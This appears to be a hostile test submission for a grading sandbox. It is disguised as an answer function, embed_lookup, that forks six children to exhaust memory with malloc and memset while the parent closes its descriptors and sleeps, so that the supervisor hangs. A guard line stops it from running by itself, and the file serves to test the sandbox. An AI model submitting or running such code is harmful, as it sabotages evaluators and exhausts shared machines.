# tries: hanging up, so that the supervisor waits for its end, while children it left fill the memory
# exercise: 1.9
# expects: crashed
# honest: 1.7
raise SystemExit("hostile: this file is text for the sandbox and is never run by itself")

# %% answer 1.9
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
libc.malloc.argtypes = [ctypes.c_size_t]
libc.memset.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
def embed_lookup(ids, E):
    for _ in range(6):
        if os.fork() == 0:
            os.closerange(3, 200)
            time.sleep(0.2)
            while True:
                where = libc.malloc(2**24)
                if not where:
                    os._exit(0)
                libc.memset(where, 1, 2**24)
    os.closerange(3, 200)
    time.sleep(1000)
def embed_one_hot(ids, E): return None
